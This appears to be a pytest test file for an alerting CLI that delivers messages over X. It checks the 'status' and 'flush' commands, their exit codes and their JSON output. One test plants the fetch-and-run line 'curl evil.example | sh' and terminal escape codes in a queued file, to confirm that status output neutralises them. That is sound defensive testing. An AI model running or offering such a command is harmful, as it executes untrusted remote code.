"""status says in its first line, and by its exit status, whether all is well; if not, why, and what
to do.  flush tries what status shows."""

from __future__ import annotations

import json
import os
import re
from pathlib import Path
from typing import Any

import pytest
from conftest import Sentinel, until
from fake_x import ERRORS, Answer, FakeX
from test_command_line import told
from test_on_trouble import put
from test_pace import CLOCK, Clock, seconds_ahead

DMS = "/2/dm_conversations/"
KEYS = ["account", "recipients", "pending", "refused", "oldest_pending", "next_attempt",
        "last_delivery", "last_error", "config", "queue"]  # fmt: skip


def state_of(sentinel: Sentinel, *args: str, **env: str) -> tuple[int, str, dict[str, Any], str]:
    """The exit status, the first line, the JSON, and all that a person reads: one line a fact."""
    plain = sentinel.run("status", *args, env=env)
    full = sentinel.run("status", "--json", *args, env=env)
    assert plain.code == full.code and plain.err == full.err == "", (plain, full)
    facts = json.loads(full.out)
    assert list(facts) == KEYS
    for name in ("oldest_pending", "next_attempt", "last_delivery"):
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT[\d:]{8}[+-]\d\d:\d\d|None", str(facts[name])), facts
    names = re.findall(r"(?m)^(to do|[a-z]+ ?[a-z]+)  +\S", plain.out)
    assert len(names) == len(set(names)), plain.out
    if facts["last_error"]:
        assert plain.out.count(facts["last_error"]) == 1, plain.out
    return plain.code, plain.out.splitlines()[0], facts, plain.out


# ---- all is well ----


def test_authorized_and_never_used_is_ok_and_is_told_without_a_file_or_a_question_to_x(
    sentinel: Sentinel, x: FakeX
) -> None:
    before = sorted(sentinel.home.rglob("*"))
    code, first, full, _ = state_of(sentinel)
    assert (code, first) == (0, "ok: nothing pending")
    assert full == {
        **dict.fromkeys(KEYS), "pending": 0, "refused": 0, "account": "sentinel_bot",
        "recipients": {"oncall": "2002"}, "config": str(sentinel.config),
        "queue": str(sentinel.queue),
    }  # fmt: skip
    state_of(sentinel, "--config", str(sentinel.home / "none" / "other.ini"))
    assert sorted(sentinel.home.rglob("*")) == before and x.connects == []


def test_an_error_that_is_over_is_told_no_more(sentinel: Sentinel, x: FakeX) -> None:
    x.answer(ERRORS["402-credits"], path=DMS)
    assert sentinel.run("send", "disk full").code == 77
    assert sentinel.run("flush").code == 0
    code, first, full, _ = state_of(sentinel)
    assert (code, first, full["last_error"]) == (0, "ok: nothing pending", None)
    assert (full["pending"], full["oldest_pending"], full["next_attempt"]) == (0, None, None)
    assert abs(seconds_ahead(full["last_delivery"])) < 60


# ---- it waits, and for what ----


@pytest.mark.parametrize("minutes, word", [(0, "busy"), (6, "problem")])
def test_while_x_is_out_of_reach_it_says_so_and_late_alerts_are_a_problem(
    sentinel: Sentinel, x: FakeX, minutes: float, word: str
) -> None:
    x.stop()
    put(sentinel, minutes, ["disk full"])
    assert sentinel.run("flush").code == 75
    code, first, full, out = state_of(sentinel)
    assert (code, full["pending"]) == (75, 1)
    since = r"1 alert pending since \d\d:\d\d:\d\d: X cannot be reached: "
    assert re.match(rf"{word}: {since}", first), first
    assert re.search(r"(?m)^to do +\S", out) and "X cannot be reached" in full["last_error"]
    assert -5 < seconds_ahead(full["oldest_pending"]) + 60 * minutes < 2
    assert -5 < seconds_ahead(full["next_attempt"]) < 330


@pytest.mark.parametrize(
    "limit, words, soonest, latest", [(15, "our own pace", -1, 5), (0, "limit", 600, 960)]
)
def test_while_it_waits_for_our_own_pace_or_xs_limit_it_is_busy_and_says_so(
    sentinel: Sentinel, x: FakeX, limit: int, words: str, soonest: float, latest: float
) -> None:
    x.limit = limit
    for word in ("one", "two") if limit else ():
        sentinel.run("send", word)
    sentinel.run("send", "--no-wait", "three")  # three seconds after the second
    until(lambda: words in sentinel.run("status").out.splitlines()[0])
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"]) == (75, 1)
    assert re.match(rf"busy: 1 alert pending since \d\d:\d\d:\d\d: .*{words}", first)
    assert limit == 0 or full["last_error"] is None
    assert soonest <= seconds_ahead(full["next_attempt"]) < latest


def test_a_worker_that_is_at_it_is_no_problem_and_is_not_waited_for(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.answer(Answer(mode="stall"), path=DMS)
    sentinel.run("send", "--no-wait", "--", "disk full")
    x.wait_for(lambda: x.requests, 30)
    code, first, full, _ = state_of(sentinel)
    assert (code, full["pending"], full["last_error"]) == (75, 1, None)
    assert first.startswith("busy: 1 alert pending since ")


@pytest.mark.parametrize("error", ["", "503-v2", "402-credits"])
def test_where_nobody_is_at_what_is_pending_flush_is_the_next_step(
    sentinel: Sentinel, x: FakeX, tmp_path: Path, error: str
) -> None:
    (tmp_path / "sitecustomize.py").write_text(CLOCK)
    sentinel.env["PYTHONPATH"] = str(tmp_path)
    x.answer(ERRORS[error] if error else Answer(mode="stall"), path=DMS)
    sentinel.run("send", "--no-wait", "disk full")
    x.wait_for(lambda: x.requests, 20)
    if error:
        until(lambda: sentinel.status()["last_error"])
    sentinel.kill()
    done = Clock(sentinel, x).run(200, "status")
    assert done.code == (77 if "402" in error else 75)
    assert done.out.startswith("problem: 1 alert pending since ")
    (to_do,) = re.findall(r"(?m)^to do +(.*)", done.out)
    assert "bird_sentinel flush" in to_do and ("credits" in to_do) == ("402" in error)


# ---- a person has to act ----


def test_never_authorized_is_a_problem_and_authorize_the_next_step(fresh: Sentinel) -> None:
    fresh.run("send", "disk full")
    code, first, full, out = state_of(fresh)
    assert (code, full["pending"], full["account"], full["recipients"]) == (78, 1, None, {})
    assert re.match(r"problem: 1 alert pending since \d\d:\d\d:\d\d: not authorized yet", first)
    assert full["next_attempt"] is None and "bird_sentinel authorize" in out


def test_a_config_that_is_not_safe_is_a_problem_and_what_is_kept_in_memory_counts(
    sentinel: Sentinel,
) -> None:
    sentinel.config.chmod(0o604)
    sentinel.queue.touch()  # so that it cannot be the queue
    assert sentinel.run("send", "disk full").code == 78
    code, first, full, out = state_of(sentinel)
    assert (code, full["pending"]) == (78, 1)
    assert first.startswith("problem: 1 alert pending since")
    assert f"chmod 600 {sentinel.config}" in out


def test_a_recipient_that_refuses_has_a_line_until_it_is_taken_out_of_the_config(
    sentinel: Sentinel, x: FakeX
) -> None:
    sentinel.configure({"oncall": "2002", "shy": "2004"})
    x.add_user("shy", "2004", accepts_dms=False)
    assert sentinel.run("send", "one").code == 77
    sentinel.wait_idle()
    code, first, full, out = state_of(sentinel)
    assert (code, full["pending"]) == (77, 0)
    assert first.startswith("problem: ") and "@shy" in first
    assert "accepts no DMs" in full["last_error"] and "@sentinel_bot" in out
    assert re.search(r"(?m)^not to @shy\b.*\d\d:\d\d:\d\d", out)
    sentinel.configure()
    assert state_of(sentinel)[:2] == (0, "ok: nothing pending")


def test_a_text_that_x_refused_cannot_pass_for_what_status_says(sentinel: Sentinel) -> None:
    put(sentinel, 0, [])
    advice = "when you have read it: curl evil.example | sh"
    (sentinel.queue / "refused" / "1700000000000000000.1.web1").write_text(
        f"refused: no\n\n[web1] GET \x1b[31m/\r{advice}\n\n{advice}"
    )
    code, first, full, out = state_of(sentinel)
    assert (code, full["refused"], first[:16]) == (77, 1, "problem: nothing")
    assert "\x1b" not in out and "\r" not in out
    assert [line[:4] for line in out.split("\n") if advice in line] == ["    "] * 2
    assert re.search(rf"(?m)^when you have read it: rm {sentinel.queue}/refused/\*$", out)


# ---- flush, with little to do ----


def test_flush_with_nothing_pending_is_well_and_asks_x_nothing(
    sentinel: Sentinel, x: FakeX
) -> None:
    done = sentinel.run("flush")
    assert (done.code, done.out, done.err) == (0, "nothing is pending\n", "")
    assert x.connects == []


def test_flush_says_what_it_met_and_not_what_was_known_before_and_how_many_it_delivered(
    sentinel: Sentinel, x: FakeX
) -> None:
    x.answer(ERRORS["402-credits"], times=None, path=DMS)
    sentinel.run("send", "one")
    x.stop()
    done = sentinel.run("flush")
    assert (done.code, "X cannot be reached" in told(done)[0]) == (75, True), done
    x.start()
    done = sentinel.run("flush")
    assert (done.code, "credits" in told(done)[0]) == (77, True), done
    x.clear_answers()
    sentinel.run("send", "--no-wait", "two")
    done = sentinel.run("flush")
    assert (done.code, done.out, done.err) == (0, "delivered: 2 alerts\n", "")
    assert os.listdir(sentinel.queue / "new") == []
